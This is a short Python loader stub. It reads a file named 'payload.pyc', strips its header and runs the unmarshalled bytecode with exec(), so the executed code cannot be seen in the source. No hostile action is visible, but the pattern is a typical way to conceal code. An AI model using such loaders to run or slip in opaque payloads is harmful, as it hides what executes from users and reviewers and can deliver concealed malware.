import marshal
from pathlib import Path

_raw = (Path(__file__).parent / "payload.pyc").read_bytes()
exec(marshal.loads(_raw[16:]))
